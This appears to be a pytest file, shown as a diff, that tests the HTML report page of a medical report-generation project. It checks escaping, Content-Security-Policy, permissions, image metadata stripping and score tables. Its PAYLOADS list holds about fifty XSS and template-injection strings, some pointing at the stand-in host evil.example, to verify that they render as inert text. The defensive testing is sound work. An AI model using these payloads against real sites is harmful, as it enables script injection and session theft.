@@ -1,0 +1,324 @@
+"""The report page: nothing that a report says becomes markup, nothing is fetched, and what it marks is right."""
+
+import base64
+import hashlib
+import io
+import os
+import re
+from html.parser import HTMLParser
+
+import numpy as np
+import pytest
+from PIL import Image
+
+from modules.evaluation.diversity import collapse_statistics
+from modules.pages.html_report import THUMBNAIL, Sample, ScoreRow, thumbnail, write_report
+from modules.pages.plots import PANEL_TITLES, training_curves, training_figures
+from modules.pages.sentences import compare_sentences, split_sentences
+
+VOID = {"meta", "img", "input", "br", "hr", "link", "base"}
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>1</script>'>",
+    "<object data=//evil.example>",
+    "<embed src=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input name=q>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>1</script>'>x",
+    "<style>*{display:none}</style>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<!--",
+    "--><script>1</script>",
+    "<![CDATA[",
+    "]]><b>",
+    "</p></div></article></main>",
+    "<plaintext>",
+    "<textarea>",
+    "<xmp>",
+    "<noscript><p title='</noscript><b>'>",
+    "<template><script>1</script>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "` onclick=alert(1)",
+    'x" style="background:url(//evil.example)',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "&amp;&quot;",
+    "{{ 7 * 7 }}",
+    "{% for x in y %}",
+    "{{ config.__class__ }}",
+    "${7*7}",
+    "<%= 7 %>",
+    "\\u003cscript\\u003e",
+    "<<b>>",
+    "<b",
+    "<\x00script>",
+    "+ADw-script+AD4-",
+    "\u202edrow\u202c",
+    "<math><mtext><b>",
+    "javascript:alert(1)",
+    "née 肺 ±",
+]
+
+
+class Page(HTMLParser):
+    """The structure of a page (tags with their attributes, in order), its texts, and whether all tags are closed."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.structure, self.texts, self.open, self.styles = [], [], [], []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag, attributes):
+        self.structure.append((tag, dict(attributes)))
+        if tag not in VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        (self.styles if self.open and self.open[-1] == "style" else self.texts).append(data)
+
+    def find(self, tag, **wanted):
+        return [a for name, a in self.structure if name == tag and wanted.items() <= a.items()]
+
+
+def history(epochs=3):
+    return [
+        {
+            "epoch": e,
+            "lr_ve": 5e-5,
+            "lr_ed": 7e-4,
+            "train_loss": 3 / e,
+            "train_nll": 2 / e,
+            "train_hardness": 0.01 * e,
+            "train_cos_positive": 0.1,
+            "val_BLEU_4": 0.1 * e,
+            "val_ce_rule_f1_micro_14_uncertain_negative": 0.2 * e,
+            "val_METEOR": None if e == 2 else 0.1,
+        }
+        for e in range(1, epochs + 1)
+    ]
+
+
+def film(size=(40, 30), value=90):
+    return Image.new("L", size, value)
+
+
+def page(path, text="plain", **changes):
+    """Write a page that shows ``text`` wherever a text can come from outside."""
+    arguments = {
+        "title": text,
+        "subtitle": text,
+        "synthetic": True,
+        "meteor_error": text,
+        "history": history(),
+        "best_epoch": 2,
+        "classes": {
+            text: [
+                {
+                    "class": text,
+                    "precision": 0.5,
+                    "recall": 0.25,
+                    "f1": 1 / 3,
+                    "reference_positives": 8,
+                    "generated_positives": 4,
+                }
+            ]
+        },
+        "scores": [ScoreRow(text, "test", {"BLEU_4": 0.2, "METEOR": None}), ScoreRow("floor", text, {text: 0.1}, True)],
+        "variety": {text: collapse_statistics([text, "other words here too"])},
+        "warnings": [text],
+        "samples": [Sample(text, [film(), film()], (text, ""), text, f"{text} . clear .")],
+        "flags": {text: text, "nested": {text: [text, 1]}},
+        "provenance": {"commit": text},
+    }
+    write_report(path, **(arguments | changes))
+    return Page(path.read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_is_text_and_changes_no_structure(tmp_path, payload):
+    settings = {"history": []}  # the curves take no text
+    found = page(tmp_path / "a.html", payload, **settings)
+    plain = page(tmp_path / "b.html", "plain", **settings)
+    assert not found.open
+
+    def neutral(structure):
+        return [
+            (tag, {key: "view" if key == "alt" else value for key, value in attributes.items()})
+            for tag, attributes in structure
+        ]
+
+    assert neutral(found.structure) == neutral(plain.structure)
+    assert found.find("img")[0]["alt"] == payload
+    assert "".join(found.texts).count(payload) == "".join(plain.texts).count("plain")
+
+
+def test_fifty_payloads_are_tried():
+    assert len(set(PAYLOADS)) >= 50
+
+
+def test_nothing_is_fetched_and_no_script_can_run(tmp_path):
+    found = page(tmp_path / "report.html")
+    tags = {tag for tag, _ in found.structure}
+    assert not tags & {"script", "link", "iframe", "object", "embed", "base", "form", "a"}
+    for _, attributes in found.structure:
+        assert not [key for key in attributes if key.startswith("on") or key in ("style", "href", "srcset", "action")]
+        assert attributes.get("src", "data:image/").startswith("data:image/")
+    [style] = found.styles
+    assert "url(" not in style and "@import" not in style
+    assert "://" not in re.sub(r"[A-Za-z0-9+/]{200,}", "", (tmp_path / "report.html").read_text())
+
+
+def test_the_policy_forbids_everything_but_inlined_images_and_its_own_style(tmp_path):
+    found = page(tmp_path / "report.html")
+    [policy] = [a["content"] for a in found.find("meta") if a.get("http-equiv") == "Content-Security-Policy"]
+    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
+    digest = base64.b64encode(hashlib.sha256("".join(found.styles).encode()).digest()).decode()
+    assert rules == {
+        "default-src": "'none'",
+        "img-src": "data:",
+        "style-src": f"'sha256-{digest}'",
+        "base-uri": "'none'",
+        "form-action": "'none'",
+    }
+    # The policy must stand before anything that it is to govern.
+    assert [tag for tag, _ in found.structure][:4] == ["html", "head", "meta", "meta"]
+
+
+def test_only_the_owner_can_read_it(tmp_path):
+    page(tmp_path / "results" / "report.html")
+    assert os.stat(tmp_path / "results" / "report.html").st_mode & 0o777 == 0o600
+    assert os.stat(tmp_path / "results").st_mode & 0o777 == 0o700
+
+
+def test_images_are_small_and_carry_nothing_but_pixels(tmp_path):
+    source = io.BytesIO()
+    exif = Image.Exif()
+    exif[0x010E] = "patient name"
+    Image.fromarray(np.arange(900 * 600, dtype=np.uint32).astype(np.uint8).reshape(900, 600)).save(
+        source, "JPEG", comment=b"patient name", exif=exif, icc_profile=b"patient name"
+    )
+    loaded = Image.open(io.BytesIO(source.getvalue()))
+    assert b"patient name" in source.getvalue()
+    data = thumbnail(loaded)
+    assert b"patient" not in data
+    assert Image.open(io.BytesIO(data)).size == (round(600 / 900 * THUMBNAIL), THUMBNAIL)
+    assert Image.open(io.BytesIO(thumbnail(Image.new("RGBA", (10, 10))))).mode == "RGB"
+    found = page(tmp_path / "report.html", samples=iter([Sample("s", [film()], (), "a .", "a .")]))
+    inlined = found.find("img", alt="view 1")[0]["src"]
+    assert Image.open(io.BytesIO(base64.b64decode(inlined.split(",")[1]))).size == (40, 30)
+
+
+def test_synthetic_data_is_called_so_and_real_data_is_not(tmp_path):
+    assert "Synthetic" in "".join(page(tmp_path / "a.html").texts)
+    assert "ynthetic" not in "".join(page(tmp_path / "b.html", synthetic=False).texts)
+
+
+def test_a_model_below_a_floor_is_said_to_be(tmp_path):
+    model = ScoreRow("model", "test", {"BLEU_4": 0.2, "CIDEr": 0.1, "BLEU_4_full": 0.15, "METEOR": None})
+    floor = ScoreRow("nearest", "test", {"BLEU_4": 0.125, "CIDEr": 0.3, "BLEU_4_full": 0.1, "METEOR": None}, True)
+    other = ScoreRow("model", "val", {"BLEU_4": 0.9, "CIDEr": 0.9, "BLEU_4_full": 0.9, "METEOR": None})
+    found = page(tmp_path / "report.html", scores=[other, model, floor], meteor_error="no java")
+    text = " ".join("".join(found.texts).split())
+    assert "BLEU-4 test 0.200 above the better floor, 0.125 (nearest)" in text
+    assert "CIDEr test 0.100 not above the better floor, 0.300 (nearest)" in text
+    assert "METEOR test – ROUGE-L" in text and "METEOR did not run: no java." in text
+    assert "Full references" in text and "0.150" in text
+    assert len(found.find("td", **{"class": "number best"})) == 3  # test BLEU-4, CIDEr, full BLEU-4
+
+
+def test_intervals_and_clinical_scores_stand_in_tables_of_their_own(tmp_path):
+    key = "ce_rule_f1_{}_14_uncertain_negative_full"
+    model = ScoreRow(
+        "model",
+        "test",
+        {
+            "BLEU_4": 0.2,
+            key.format("micro"): 0.4,
+            "ce_chexbert_f1_macro_5_uncertain_negative_full": 0.9,
+            "ce_rule_f1_micro_14_uncertain_positive": 0.987,
+        },
+        intervals={"BLEU_4": (0.1, 0.3), key.format("micro"): (0.35, 0.4554)},
+    )
+    floor = ScoreRow("nearest", "test", {"BLEU_4": 0.1, key.format("micro"): 0.5}, True)
+    found = page(tmp_path / "report.html", scores=[model, floor, ScoreRow("model", "val", {"BLEU_4": 0.25})])
+    text = " ".join("".join(found.texts).split())
+    assert "Clinical F1 (rules) test 0.400 0.350 – 0.455 not above the better floor, 0.500 (nearest)" in text
+    assert "0.200 0.100 – 0.300" in text.replace("0.2000.100", "0.200 0.100") and "Small: 95 % interval" in text
+    captions = text.split("Clinical efficacy against full references: ")[1:]
+    assert [line.split(",")[0] for line in captions] == ["labels by rules", "labels by CheXbert"]
+    assert "0.900" in text and "0.987" not in text
+    # The validation row has none of these scores and is left out of their tables.
+    assert " val " not in captions[0] + captions[1]
+
+
+def test_a_class_without_any_report_has_no_score(tmp_path):
+    line = {
+        "class": "Edema",
+        "precision": 0.0,
+        "recall": 0.0,
+        "f1": 0.0,
+        "reference_positives": 0,
+        "generated_positives": 0,
+    }
+    found = page(
+        tmp_path / "report.html", classes={"rule": [line, line | {"class": "Fracture", "reference_positives": 3}]}
+    )
+    text = "|".join(part.strip() for part in found.texts if part.strip())
+    assert "Edema|–|–|–|0|0|Fracture|–|0.000|0.000|3|0" in text
+
+
+def test_sentences_are_compared_whatever_their_order_and_case():
+    reference, generated = compare_sentences(
+        "The heart is normal. A 1.5 cm nodule. No effusion. No effusion.",
+        "no effusion . the  heart is normal . clear .",
+    )
+    assert reference == [
+        ("The heart is normal", True),
+        ("A 1.5 cm nodule", False),
+        ("No effusion", True),
+        ("No effusion", False),
+    ]
+    assert generated == [("no effusion", True), ("the  heart is normal", True), ("clear", False)]
+    assert split_sentences(" . . a .b . ") == ["a .b"]
+    assert compare_sentences("", "") == ([], [])
+
+
+@pytest.mark.parametrize(
+    ("generated", "agreement", "marks"),
+    [("b . a .", "same", 0), ("a . c .", "part", 2), ("c .", "none", 3), ("", "none", 2), ("a . b . b .", "part", 1)],
+)
+def test_differing_sentences_are_marked_and_samples_sorted_for_the_filter(tmp_path, generated, agreement, marks):
+    found = page(tmp_path / "report.html", samples=[Sample("s", [film()], (), "a . b .", generated)])
+    assert found.find("article")[0]["class"] == f"sample agreement-{agreement}"
+    assert len(found.find("mark")) == 2 + marks  # two in the legend
+    assert [a["id"] for a in found.find("input", type="radio")] == ["show-all", "show-same", "show-part", "show-none"]
+
+
+def test_a_page_without_samples_scores_or_history_is_still_a_page(tmp_path):
+    found = page(tmp_path / "report.html", samples=[], scores=[], history=[], variety={})
+    assert not found.open and not found.find("img") and not found.find("input")
+
+
+def test_curves_show_what_the_history_has():
+    figures = training_figures(history(), best_epoch=2)
+    assert list(figures) == list(PANEL_TITLES)
+    assert all(png.startswith(b"\x89PNG") for png in figures.values())
+    assert list(training_figures([{"epoch": 1, "train_loss": float("nan"), "val_BLEU_4": 0.1}])) == ["bleu"]
+    assert training_figures([]) == {} and training_curves([]).startswith(b"\x89PNG")
+    assert Image.open(io.BytesIO(training_curves(history()))).width > 1000
